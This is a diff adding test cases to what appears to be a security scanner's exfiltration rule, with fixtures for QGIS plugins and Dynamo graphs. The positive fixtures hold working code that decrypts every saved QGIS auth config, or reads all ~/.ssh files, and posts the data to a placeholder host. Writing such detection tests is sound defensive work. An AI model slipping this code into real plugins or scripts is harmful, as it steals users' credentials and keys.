@@ -1277,6 +1277,67 @@ describeRuleCases('exfiltration (credential files listed in a data file)', [
   },
 ]);
 
+describeRuleCases('exfiltration (desktop app credential stores and scripts kept in app files)', [
+  {
+    // A QGIS plugin walks every saved auth config, decrypts each and posts them through Qt's network stack.
+    id: 'SG-EXFIL-002',
+    file: 'plugin/sync_tools/sync.py',
+    positive:
+      'from qgis.core import QgsApplication, QgsAuthMethodConfig, QgsNetworkAccessManager\nmgr = QgsApplication.authManager()\nout = []\nfor cid in mgr.configIds():\n    cfg = QgsAuthMethodConfig()\n    mgr.loadAuthenticationConfig(cid, cfg, True)\n    out.append(dict(cfg.configMap()))\nQgsNetworkAccessManager.instance().post(QNetworkRequest(QUrl(HUB)), QByteArray(json.dumps(out).encode()))\n',
+    // One config, the one the user picked for this service, loaded to sign that service's request.
+    negative:
+      'from qgis.core import QgsApplication, QgsAuthMethodConfig, QgsNetworkAccessManager\nmgr = QgsApplication.authManager()\ncfg = QgsAuthMethodConfig()\nmgr.loadAuthenticationConfig(self.authcfg, cfg, True)\nreq = QNetworkRequest(QUrl(self.service_url))\nmgr.updateNetworkRequest(req, self.authcfg)\nQgsNetworkAccessManager.instance().post(req, QByteArray(payload))\n',
+  },
+  {
+    // A Dynamo graph's Python node (its code a JSON string beside `"Engine": "CPython3"`) posts SSH keys.
+    id: 'SG-EXFIL-002',
+    file: 'graphs/Audit.dyn',
+    positive: JSON.stringify(
+      {
+        Nodes: [
+          {
+            ConcreteType: 'PythonNodeModels.PythonNode, PythonNodeModels',
+            Engine: 'CPython3',
+            Code: 'import os, glob, json, urllib.request\nkeys = {p: open(p).read() for p in glob.glob(os.path.join(os.path.expanduser("~"), ".ssh", "*"))}\nurllib.request.urlopen(urllib.request.Request(SINK, data=json.dumps(keys).encode()))\nOUT = len(keys)\n',
+          },
+        ],
+      },
+      null,
+      2,
+    ),
+    // The same graph's node counting rooms and writing a local report.
+    negative: JSON.stringify(
+      {
+        Nodes: [
+          {
+            ConcreteType: 'PythonNodeModels.PythonNode, PythonNodeModels',
+            Engine: 'CPython3',
+            Code: 'import json\nrooms = IN[0]\nwith open(IN[1], "w") as f:\n    json.dump({"rooms": len(rooms)}, f)\nOUT = len(rooms)\n',
+          },
+        ],
+      },
+      null,
+      2,
+    ),
+  },
+]);
+
+describe('adversarial Qt sends and auth-store reads', () => {
+  const MiB = 1024 * 1024;
+  it.each([
+    ['manager chains', 'QgsNetworkAccessManager.a.b.c().d()'.repeat(MiB / 35)],
+    ['decrypting loads', 'configIds()\n' + 'x.loadAuthenticationConfig(a, b, '.repeat(MiB / 33)],
+  ])('should scan 1 MiB of %s in under a second', (_name, text) => {
+    expectScansQuickly([text], 'plugin/sync.py');
+  });
+
+  it('should scan a 1 MiB Dynamo graph of Python nodes in under a second', () => {
+    const node = { ConcreteType: 'PythonNode', Engine: 'CPython3', Code: 'x = 1\n'.repeat(20) };
+    const graph = JSON.stringify({ Nodes: Array.from({ length: MiB / 240 }, () => node) });
+    expectScansQuickly([graph], 'graphs/big.dyn');
+  });
+});
+
 describe('adversarial local-socket clients', () => {
   it('should scan 250 KiB of socket connects and bindings in under a second', () => {
     const text =
